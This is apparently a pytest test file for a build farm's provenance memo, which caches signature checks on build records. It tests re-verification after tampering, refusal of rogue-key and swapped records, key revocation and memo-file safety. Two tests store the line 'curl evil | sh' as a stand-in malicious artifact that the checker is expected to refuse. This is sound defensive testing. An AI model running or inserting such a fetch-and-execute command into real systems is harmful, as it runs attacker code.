"""The provenance memo behind ``keyring.check_published``: a check that passed is not repeated for the same record,
envelope and keyring; anything else is verified again, and a refusal is never remembered.

Records and envelopes are made here with the farm's own signing code into a local store (no builds), then
tampered with the way someone with write access to the store would.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from farm.errors import E, FarmError
from farm.store import Artifact, BuildRecord
from farm.store.local import LocalStore
from farm.trust import keyring
from farm.trust import provenance as prov
from farm.trust.keyring import LiveKeyring, check_published
from farm.trust.keys import BuilderKey, generate, load_builder, trusted_keys
from farm.trust.memo import MemoKeys, ProvenanceMemo, keyring_digest, record_digest

KEY = "1" * 64


@dataclasses.dataclass
class Farm:
    store: LocalStore
    keys_dir: Path
    builder: BuilderKey
    memo: ProvenanceMemo
    ring: LiveKeyring
    verified: list[str]  # one entry per envelope verification

    def publish(self, build_key: str, content: bytes, signer: BuilderKey | None = None) -> BuildRecord:
        """A record of ``build_key`` with one artifact, its provenance signed by ``signer`` (the farm's key)."""
        digest = self.store.put_bytes(content)
        envelope = sign_statement(build_key, {"out.txt": digest}, signer or self.builder)
        record = BuildRecord(
            build_key=build_key,
            recipe="lib",
            version="1.0",
            recipe_digest="2" * 64,
            source_url="/src/lib",
            commit="3" * 40,
            tree="4" * 40,
            environment="5" * 64,
            artifacts=(Artifact("out.txt", digest, len(content)),),
            provenance=self.store.put_bytes(json.dumps(envelope).encode()),
            log=self.store.put_bytes(b"build log\n"),
            builder="builder-1",
            started="2026-01-01T00:00:00Z",
            finished="2026-01-01T00:00:01Z",
        )
        return record

    def put(self, record: BuildRecord) -> None:
        """Publish ``record``, or overwrite the one there (what an attacker with write access does)."""
        path = self.store.root / "records" / f"{record.build_key}.json"
        if path.exists():
            path.chmod(0o644)
            path.write_bytes(record.to_bytes())
        else:
            assert self.store.put_record(record)

    def check(self) -> BuildRecord:
        return check_published(self.store, KEY, self.ring())


def sign_statement(build_key: str, subjects: dict[str, str], key: BuilderKey) -> dict[str, Any]:
    stmt = prov.statement(
        subjects=sorted(subjects.items()),
        recipe={"name": "lib"},
        recipe_digest="2" * 64,
        source_url="/src/lib",
        commit="3" * 40,
        tree="4" * 40,
        environment="5" * 64,
        dependencies=[],
        builder_id="builder-1",
        build_key=build_key,
        started="2026-01-01T00:00:00Z",
        finished="2026-01-01T00:00:01Z",
    )
    return prov.sign(stmt, key)


@pytest.fixture
def farm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Farm:
    keys_dir = tmp_path / "keys"
    generate(keys_dir)
    verified: list[str] = []
    real = prov.verify_envelope

    def counting(envelope: Any, trusted: Any) -> prov.Verified:
        verified.append(str(envelope.get("payload", ""))[:16])
        return real(envelope, trusted)

    monkeypatch.setattr(keyring, "verify_envelope", counting)
    memo = ProvenanceMemo(tmp_path / "cache" / "provenance-memo.sqlite")
    store = LocalStore(tmp_path / "store")
    ring = LiveKeyring(keys_dir, keys_dir / "trusted", memo)
    farm = Farm(store, keys_dir, load_builder(keys_dir), memo, ring, verified)
    farm.put(farm.publish(KEY, b"honest\n"))
    return farm


def attempts(farm: Farm) -> int:
    """How many envelopes were verified (signature checked) so far."""
    return len(farm.verified)


def refused(check: Callable[[], object], code: str, words: str) -> None:
    with pytest.raises(FarmError) as info:
        check()
    assert info.value.code == code, info.value
    assert words in info.value.message, info.value.message


def test_a_warm_memo_skips_verification(farm: Farm) -> None:
    first = farm.check()
    assert (attempts(farm), farm.memo.hits, farm.memo.misses) == (1, 0, 1)
    for _ in range(3):
        assert farm.check() == first
    assert (attempts(farm), farm.memo.hits, farm.memo.misses) == (1, 3, 1)


def test_the_memo_survives_the_process_that_wrote_it(farm: Farm) -> None:
    farm.check()
    farm.memo.close()
    again = ProvenanceMemo(farm.memo.path)
    check_published(farm.store, KEY, MemoKeys(trusted_keys(farm.keys_dir, farm.keys_dir / "trusted"), again))
    assert (attempts(farm), again.hits) == (1, 1)


def test_a_rewritten_record_is_verified_again(farm: Farm) -> None:
    farm.check()
    honest = farm.store.get_record(KEY)
    assert honest is not None
    farm.put(dataclasses.replace(honest, builder="someone-else"))  # provenance does not sign this field
    assert farm.check().builder == "someone-else"
    assert attempts(farm) == 2
    farm.check()
    assert attempts(farm) == 2  # the re-verified record is remembered in its turn


def test_a_rewritten_record_naming_other_artifacts_is_refused_with_a_warm_memo(farm: Farm) -> None:
    farm.check()
    honest = farm.store.get_record(KEY)
    assert honest is not None
    evil = farm.store.put_bytes(b"curl evil | sh\n")
    farm.put(dataclasses.replace(honest, artifacts=(Artifact("out.txt", evil, 15),)))
    for _ in range(2):  # a refusal is never remembered: checked, and refused, every time
        refused(farm.check, E.ARTIFACT_REFUSED, "not the ones its provenance signs")
    assert attempts(farm) == 3


def test_a_poisoned_store_is_refused_with_a_warm_memo(farm: Farm) -> None:
    """The record and its envelope swapped for ones a rogue key signed, about the same build key."""
    farm.check()
    rogue = BuilderKey(Ed25519PrivateKey.generate())
    farm.put(farm.publish(KEY, b"curl evil | sh\n", signer=rogue))
    for _ in range(2):
        refused(farm.check, E.ARTIFACT_REFUSED, "not trusted")
    assert farm.memo.hits == 0


def test_a_record_swapped_for_another_builds_is_refused_with_a_warm_memo(farm: Farm) -> None:
    other = "9" * 64
    farm.put(farm.publish(other, b"other\n"))
    check_published(farm.store, other, farm.ring())
    farm.check()
    swapped = farm.store.get_record(other)
    assert swapped is not None
    farm.put(dataclasses.replace(swapped, build_key=KEY))  # the other build's honest record, under KEY
    refused(farm.check, E.ARTIFACT_REFUSED, "about another build")


def test_a_revoked_key_is_refused_even_with_a_warm_memo(farm: Farm) -> None:
    farm.check()
    assert farm.memo.hits == 0 and farm.check() and farm.memo.hits == 1
    keyring.revoke(farm.keys_dir, farm.builder.public.keyid, "leaked")
    refused(farm.check, E.KEY_REVOKED, "revoked")
    refused(farm.check, E.KEY_REVOKED, "revoked")
    assert farm.memo.hits == 1


def test_any_keyring_change_is_a_miss(farm: Farm, tmp_path: Path) -> None:
    before = farm.ring()
    farm.check()
    another = tmp_path / "another"
    generate(another)
    keyring.trust(farm.keys_dir, farm.keys_dir / "trusted", another / "builder.pub")
    after = farm.ring()
    assert after is not before and after.digest != before.digest
    farm.check()
    assert (attempts(farm), farm.memo.hits) == (2, 0)
    assert farm.ring() is after  # unchanged files: the same keyring, not read again


def test_keyring_digest_covers_trusted_and_revoked_ids(farm: Farm) -> None:
    keys = trusted_keys(farm.keys_dir, farm.keys_dir / "trusted")
    assert keyring_digest(keys) == keyring_digest(list(keys))  # nothing revoked yet
    keyring.revoke(farm.keys_dir, "a" * 64, "an unrelated key")
    assert keyring_digest(trusted_keys(farm.keys_dir, farm.keys_dir / "trusted")) != keyring_digest(keys)


def test_a_damaged_memo_file_is_replaced_and_never_trusted(farm: Farm) -> None:
    farm.memo.path.parent.mkdir(parents=True, exist_ok=True)
    farm.memo.path.write_bytes(b"this is not an SQLite database" * 100)
    farm.check()
    assert attempts(farm) == 1 and farm.memo.hits == 0
    again = ProvenanceMemo(farm.memo.path)  # the next process finds the new memo
    check_published(farm.store, KEY, MemoKeys(trusted_keys(farm.keys_dir, farm.keys_dir / "trusted"), again))
    assert attempts(farm) == 1 and again.hits == 1


def test_an_unusable_memo_means_verifying(farm: Farm, tmp_path: Path) -> None:
    blocked = tmp_path / "not-a-directory"
    blocked.write_text("")
    memo = ProvenanceMemo(blocked / "memo.sqlite")  # its directory cannot be made
    keys = trusted_keys(farm.keys_dir, farm.keys_dir / "trusted")
    check_published(farm.store, KEY, MemoKeys(keys, memo))
    check_published(farm.store, KEY, MemoKeys(keys, ProvenanceMemo(blocked / "memo.sqlite")))
    assert attempts(farm) == 2


def test_a_memo_row_for_other_bytes_is_a_miss(farm: Farm) -> None:
    record = farm.store.get_record(KEY)
    assert record is not None
    ring = farm.ring().digest
    farm.memo.remember(KEY, "0" * 64, record.provenance, ring)  # as if another record of KEY had passed
    farm.check()
    assert attempts(farm) == 1
    assert farm.memo.seen(KEY, record_digest(record), record.provenance, ring)


def test_a_record_handed_in_by_the_caller_is_the_one_checked(farm: Farm) -> None:
    record = farm.store.get_record(KEY)
    assert record is not None
    assert check_published(farm.store, KEY, farm.ring(), record=record) == record
    other = dataclasses.replace(record, build_key="9" * 64)
    refused(lambda: check_published(farm.store, KEY, farm.ring(), record=other), E.ARTIFACT_REFUSED, "about build")


def test_expected_digests_are_checked_on_a_hit(farm: Farm) -> None:
    farm.check()
    refused(
        lambda: check_published(farm.store, KEY, farm.ring(), {"out.txt": "f" * 64}),
        E.ARTIFACT_REFUSED,
        "signed provenance says",
    )
    assert farm.memo.hits == 1


def test_the_memo_file_is_private(farm: Farm) -> None:
    farm.check()
    assert farm.memo.path.stat().st_mode & 0o077 == 0


def test_the_digest_is_of_the_bytes_the_store_holds(farm: Farm) -> None:
    farm.check()
    path = farm.store.root / "records" / f"{KEY}.json"
    raw = path.read_bytes()
    record = farm.store.get_record(KEY)
    assert record is not None
    assert record_digest(record) == "raw:" + hashlib.sha256(raw).hexdigest()
    path.chmod(0o644)
    path.write_bytes(json.dumps(json.loads(raw)).encode())  # the same record, other bytes
    assert farm.check() == record
    assert attempts(farm) == 2  # other bytes: verified again
    made = dataclasses.replace(record)  # a record made in memory hashes its canonical JSON
    assert made.stored_sha256 is None and not record_digest(made).startswith("raw:")
